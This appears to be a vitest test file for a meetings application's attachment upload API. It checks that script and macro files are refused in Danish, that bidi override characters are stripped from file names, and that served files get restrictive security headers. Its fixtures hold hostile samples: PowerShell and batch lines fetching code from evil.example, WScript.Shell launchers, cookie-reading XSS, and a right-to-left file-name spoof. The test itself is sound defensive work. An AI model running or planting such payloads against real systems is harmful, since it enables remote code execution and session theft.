import { expect, it } from "vitest";
import { uploadAttachmentContent } from "../../src/modules/meetings/index.ts";
import { useTestApp } from "../helpers/app.ts";
import { describeEachDatabase } from "../helpers/databases.ts";
import { seedWorld, type World } from "../helpers/factories.ts";

/** Script files and a junk macro document, each declared application/octet-stream (the audit's set). */
const HOSTILE: [string, string][] = [
  [
    "regning.hta",
    '<html><hta:application/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>',
  ],
  ["start.bat", "@echo off\r\npowershell -c iwr http://evil.example\r\n"],
  ["start.cmd", "start calc.exe\r\n"],
  ["bilag.js", 'WScript.CreateObject("WScript.Shell").Run("calc");'],
  ["bilag.vbs", 'CreateObject("WScript.Shell").Run "calc"'],
  ["bilag.ps1", "Invoke-WebRequest http://evil.example | iex"],
  ["referat.docm", "junk that only claims to be a Word document with macros"],
  ["side.html", "<!doctype html><script>alert(document.cookie)</script>"],
];

/**
 * Uploads through the API (issue 18.8): the allow-list decides by content, scripts and macro documents
 * are refused in Danish whatever they are declared as, bidi controls leave the file name, and every
 * served upload — a stored HTML file from before included — gets `default-src 'none'` and nosniff.
 */
describeEachDatabase("Uploads: allow-list, names, served headers", (kind) => {
  const t = useTestApp(kind);
  let w: World;
  let fileId = 0;
  let version = 0;
  const put = (bytes: string | Uint8Array, fileName: string, type = "application/octet-stream") =>
    t().request({
      method: "PUT",
      url: `/api/v1/attachments/${fileId}/content?version=${version}&fileName=${encodeURIComponent(fileName)}`,
      token: w.users.secretary.token,
      headers: { "content-type": type },
      payload: Buffer.from(bytes),
    });

  it("arranges an attachment on a draft meeting", { timeout: 120_000 }, async () => {
    w = await seedWorld(t().system);
    const call = async (url: string, payload: object) => {
      const res = await t().request({ method: "POST", url, token: w.users.secretary.token, payload });
      expect(res.statusCode, res.body).toBe(201);
      return res.json();
    };
    const meeting = await call("/api/v1/meetings", { bodyId: w.ssu.id, start: "2026-11-05T10:00" });
    const item = await call(`/api/v1/meetings/${meeting.id}/items`, { title: "Punkt" });
    const file = await call(`/api/v1/items/${item.id}/attachments`, { title: "Bilag" });
    fileId = file.id;
    version = file.version;
  });

  it.each(HOSTILE)("refuses %s declared application/octet-stream, in Danish", async (name, content) => {
    const res = await put(content, name);
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toMatch(/^(Filtypen er ikke tilladt|Filen er ikke en gyldig)/);
  });

  it("stores a PDF declared application/octet-stream as a PDF, without the bidi override in its name", async () => {
    const res = await put("%PDF-1.7\n%%EOF\n", "faktura\u202Efdp.exe.pdf");
    expect(res.statusCode, res.body).toBe(200);
    version = res.json().version;
    const served = await t().request({
      method: "GET",
      url: `/api/v1/attachments/${fileId}/content`,
      token: w.users.secretary.token,
    });
    expect(served.statusCode).toBe(200);
    expect(served.headers["content-type"]).toBe("application/pdf");
    const disposition = String(served.headers["content-disposition"]);
    expect(disposition).not.toMatch(/%E2%80%AE|\u202E/i);
    expect(disposition).toContain("fakturafdp.exe.pdf");
    expect(served.headers["content-security-policy"]).toMatch(/^default-src 'none'/);
    expect(served.headers["x-content-type-options"]).toBe("nosniff");
  });

  it("serves an HTML file stored before the allow-list with default-src 'none', not the page policy", async () => {
    // Written through the service, as an upload from before the allow-list would have been stored.
    const meta = await t().request({
      method: "GET",
      url: `/api/v1/attachments/${fileId}`,
      token: w.users.secretary.token,
    });
    await uploadAttachmentContent(t().system, fileId, {
      bytes: new TextEncoder().encode("<!doctype html><script>alert(1)</script>"),
      mimeType: "text/html",
      fileName: "gammel.html",
      version: meta.json().version,
    });
    const served = await t().request({
      method: "GET",
      url: `/api/v1/attachments/${fileId}/content`,
      token: w.users.secretary.token,
    });
    expect(served.headers["content-type"]).toMatch(/^text\/html/);
    expect(served.headers["content-security-policy"]).toMatch(/^default-src 'none'/);
    expect(served.headers["x-content-type-options"]).toBe("nosniff");
  });
});
